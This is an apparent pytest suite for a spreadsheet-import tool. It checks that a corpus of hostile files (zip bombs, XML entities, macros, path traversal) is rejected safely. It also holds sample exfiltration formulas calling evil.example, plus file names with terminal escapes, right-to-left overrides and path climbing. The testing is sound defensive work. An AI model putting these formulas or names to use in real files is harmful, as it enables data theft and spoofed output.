"""Every file of the hostile corpus (tests/fixtures/hostile) through the real command line.

Each file is imported by `python -m partnerboard import FILE --db DB` in a child process whose
address space is capped (RLIMIT_AS), into a real SQLite database holding the Section 11 round
the corpus was made for. Each must be refused with a plain message naming the file and what is
wrong (never a traceback), within a generous hang guard, in bounded memory, and with nothing
written: every table's row count and the head of the audit trail are the same afterwards.
"""

from __future__ import annotations

import os
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.fixtures.hostile import make_corpus
from tests.fixtures.hostile.make_corpus import CORPUS

HOSTILE = Path(make_corpus.__file__).parent
HANG_GUARD_SECONDS = 60  # a guard against a hang, not a timing assertion
MEMORY_CAP = 1024**3  # address space of the child (RLIMIT_AS)
MEMORY_BOUND_KB = 512 * 1024  # peak resident memory of the child

# What each kind of file must be told, in its own words.
EXPECTED: dict[str, str] = {
    "entity_bomb": r"DOCTYPE or entities",
    "external_entity": r"DOCTYPE or entities",
    "zip_bomb": r"zip bomb",
    "zip_bomb_total": r"zip bomb",
    "zip_bomb_overlap": r"zip bomb|damaged",
    "huge_dimension": r"declares that it reaches cell XFD1048576",
    "extreme_cells": r"reaches cell XFD1048576",
    "truncated": r"incomplete or damaged|empty \(0 bytes\)",
    "legacy_xls": r"old Excel 97-2003 \.xls format",
    "wrong_format": r"CSV or text file|web page|PDF|Word document",
    "macros": r"contains macros",
    "encrypted": r"password-protected \(encrypted\)",
    "formulas": r"holds a formula .*formulas are not read",
    "external_link": r"links to other workbooks|connects to external data",
    "path_traversal": r"part with an unsafe name",
    "hostile_file_name": r"holds a formula",
}


@pytest.fixture(scope="module")
def corpus_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with the corpus's round and template key (see `make_corpus`)."""
    path = tmp_path_factory.mktemp("hostile") / "partnerboard.sqlite"
    db, _world = make_corpus.corpus_database(path)
    db.close()
    return path


def state(db_path: Path) -> dict[str, object]:
    """Row counts of every table, and the newest audit entry (the trail's head)."""
    with sqlite3.connect(db_path) as connection:
        tables = [
            name
            for (name,) in connection.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
            )
        ]
        counts: dict[str, object] = {
            table: connection.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
            for table in tables
        }
        counts["audit head"] = connection.execute(
            "SELECT seq, hash FROM audit_entry ORDER BY seq DESC LIMIT 1"
        ).fetchone()
    connection.close()
    return counts


def _cap_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def _high_water_kb(pid: int) -> int:
    """Peak resident memory of a running process (0 once it has exited)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    line = next((x for x in status.splitlines() if x.startswith("VmHWM:")), None)
    return int(line.split()[1]) if line else 0


def run_import(db_path: Path, *files: Path, cwd: Path | None = None) -> tuple[int, str, float, int]:
    """Exit code, output (stdout and stderr), seconds and peak resident KB of the child."""
    out_path = db_path.with_name(f"out-{os.getpid()}-{time.monotonic_ns()}.txt")
    started = time.monotonic()
    with out_path.open("w+", encoding="utf-8", errors="replace") as out:
        child = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "partnerboard",
                "--db",
                str(db_path),
                "import",
                *map(str, files),
            ],
            stdout=out,
            stderr=subprocess.STDOUT,
            preexec_fn=_cap_memory,
            cwd=cwd,
            env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        )
        # The child's own high-water mark (VmHWM), read while it runs: rusage's ru_maxrss would
        # also count the memory of this (large, forked) test process at the moment of exec.
        peak_kb = 0
        while True:
            peak_kb = max(peak_kb, _high_water_kb(child.pid))
            pid, status, _usage = os.wait4(child.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - started > HANG_GUARD_SECONDS:
                child.send_signal(signal.SIGKILL)
                os.wait4(child.pid, 0)
                child.returncode = -9
                pytest.fail(f"import of {files} still running after {HANG_GUARD_SECONDS} s")
            time.sleep(0.01)
        child.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        output = out.read()
    out_path.unlink()
    return child.returncode, output, time.monotonic() - started, peak_kb


def test_the_corpus_holds_every_kind_of_hostile_file() -> None:
    on_disk = {p.name for p in HOSTILE.iterdir() if p.is_file() and p.suffix != ".py"}
    assert on_disk == set(CORPUS), "run: python -m tests.fixtures.hostile.make_corpus"
    kinds = {kind for kind, _what in CORPUS.values()}
    assert kinds == set(EXPECTED)
    assert len(CORPUS) >= 25
    assert all(p.stat().st_size < 64 * 1024 for p in HOSTILE.iterdir() if p.suffix != ".py")


def test_the_corpus_is_what_the_script_makes_and_its_baseline_imports(
    corpus_db: Path, tmp_path: Path
) -> None:
    """The committed bytes are reproducible, and the return they are built from imports."""
    from partnerboard.db.schema import open_database
    from partnerboard.workbooks.importer import FileStatus, import_paths

    files = make_corpus.build(tmp_path)
    changed = [name for name, data in files.items() if (HOSTILE / name).read_bytes() != data]
    assert not changed, f"corpus out of date, re-run make_corpus: {changed}"

    copy = tmp_path / "copy.sqlite"
    shutil.copy(corpus_db, copy)
    baseline = tmp_path / "baseline.xlsx"
    baseline.write_bytes(make_corpus.base_return(tmp_path / "again"))
    db = open_database(str(copy))
    try:
        result = import_paths(db, [baseline]).files[0]
    finally:
        db.close()
    assert result.status == FileStatus.IMPORTED, result.errors
    assert result.records == 31


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file_is_refused_plainly_quickly_and_writes_nothing(
    corpus_db: Path, name: str
) -> None:
    kind, what = CORPUS[name]
    before = state(corpus_db)
    code, output, seconds, peak_kb = run_import(corpus_db, HOSTILE / name)
    print(f"{name}: {seconds:.2f} s, peak {peak_kb // 1024} MB ({what})")

    assert code == 1, output
    assert "Traceback" not in output and "Error:" not in output, output
    lines = output.splitlines()
    assert lines[0].startswith(f"REJECTED  {name}  ("), output
    message = " ".join(line.strip() for line in lines[1:-1])
    assert re.search(EXPECTED[kind], message), output
    assert lines[-1] == "1 file(s): 0 imported, 0 unchanged, 1 rejected.", output
    assert peak_kb < MEMORY_BOUND_KB, f"{name}: peak {peak_kb // 1024} MB"
    assert state(corpus_db) == before


def test_formulas_are_neither_evaluated_nor_imported_as_their_cached_values(
    corpus_db: Path,
) -> None:
    """The cached values ("Fully met", the evidence) would pass every rule: the formulas alone
    reject the file, and each formula cell is named with its formula as text."""
    code, output, _seconds, _peak = run_import(corpus_db, HOSTILE / "formulas_in_answers.xlsx")
    assert code == 1
    for ref, formula in (
        ("D7", '=IF(1,"Fully met")'),
        ("E7", '=WEBSERVICE("http://evil.example/steal")'),
        ("D8", "=1+1"),
        ("E8", '=HYPERLINK("http://evil.example/?"&A1,"Policy reviewed")'),
    ):
        assert f"Self-assessment!{ref}: The cell holds a formula ({formula})" in output


def test_hostile_file_names_are_shown_safely(corpus_db: Path, tmp_path: Path) -> None:
    """Names a partner may choose: control characters, a terminal escape, a right-to-left
    override, backslashes, and a path climbing out of its folder."""
    source = HOSTILE / "hostile_file_name.xlsx"
    inside = tmp_path / "inbox" / "sub"
    inside.mkdir(parents=True)
    names = {
        "escape\x1b[2J\x07.xlsx": "escape_[2J_.xlsx",
        "forged\nREJECTED  line.xlsx": "forged_REJECTED line.xlsx",
        "invoice\u202excod.xlsx": "invoice_xcod.xlsx",
        "..\\..\\windows.xlsx": "windows.xlsx",
    }
    files = []
    for hostile in names:
        target = tmp_path / "inbox" / hostile
        shutil.copy(source, target)
        files.append(target)
    shutil.copy(source, tmp_path / "x.xlsx")
    files.append(inside / ".." / ".." / "x.xlsx")  # ../../x.xlsx from inbox/sub
    before = state(corpus_db)

    code, output, _seconds, _peak = run_import(corpus_db, *files)

    assert code == 1
    assert state(corpus_db) == before
    assert not any(ch in output for ch in "\x1b\x07\u202e\\")
    shown = [line.split("  ")[1] for line in output.splitlines() if line.startswith("REJECTED")]
    assert sorted(shown) == sorted([*names.values(), "x.xlsx"])
    assert output.count("\n") == len(files) * 5 + 1  # a name and four formulas each, no more
